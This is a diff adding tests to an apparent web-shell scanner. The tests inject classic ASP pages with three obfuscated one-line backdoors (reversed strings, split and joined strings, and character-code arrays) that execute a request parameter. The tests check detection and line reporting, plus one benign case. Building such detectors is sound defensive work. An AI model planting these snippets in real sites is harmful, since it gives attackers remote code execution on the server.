@@ -151,3 +151,28 @@ describe('phpExcerpts', () => {
     for (const e of ex) assert.ok(e.end - e.start <= MAX_EXCERPT);
   });
 });
+
+describe('scan: classic ASP injected into a long page, block by block', () => {
+  let page = '<%@ Language="VBScript" %>\n<html><body><table>\n';
+  for (let i = 0; page.length < 200_000; i++) page += `<tr><td>Item ${i}</td><td><%= ${i} %></td></tr>\n<% Dim v${i} : v${i} = ${i} * 2 : If v${i} > 10 Then Response.Write("<b>" & v${i} & "</b>") End If %>\n`;
+  const shells: [string, string][] = [
+    ['a reversed string executed', '<%\nDim c\nc = StrReverse(")""c""(tseuqer lave")\nExecuteGlobal c\n%>'],
+    ['a string split and joined, executed', '<%\nDim p\np = Join(Split("e!v!a!l! !r!e!q!u!e!s!t!(!""!c!""!)", "!"), "")\nExecute(p)\n%>'],
+    ['character codes of an array, executed', '<%\na = Array(101, 118, 97, 108, 32, 114, 101, 113, 117, 101, 115, 116, 40, 34, 99, 34, 41)\nFor i = 0 To UBound(a) : s = s & Chr(a(i)) : Next\nExecute s\n%>'],
+  ];
+  it('the page alone is clean', () => assert.equal(scan(page, '/www/list.asp').verdict, 'clean'));
+  for (const [name, shell] of shells) {
+    it(`malicious: ${name}, in the middle of the page, with its line`, () => {
+      assert.equal(scan(shell, '/www/s.asp').verdict, 'malicious', 'alone');
+      const cut = page.indexOf('<tr>', page.length >> 1);
+      const r = scan(`${page.slice(0, cut)}${shell}\n${page.slice(cut)}`, '/www/list.asp');
+      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
+      const line = page.slice(0, cut).split('\n').length;
+      assert.ok(r.findings.some((f) => f.line !== undefined && f.line >= line && f.line <= line + 5), JSON.stringify(r.findings.map((f) => f.line)));
+    });
+  }
+  it('not malicious: a long page whose block executes a handler named in the code', () => {
+    const ok = `${page}<%\nDim h : h = "ShowList"\nExecute "Call " & h & "()"\n%>\n`;
+    assert.notEqual(scan(ok, '/www/list.asp').verdict, 'malicious');
+  });
+});
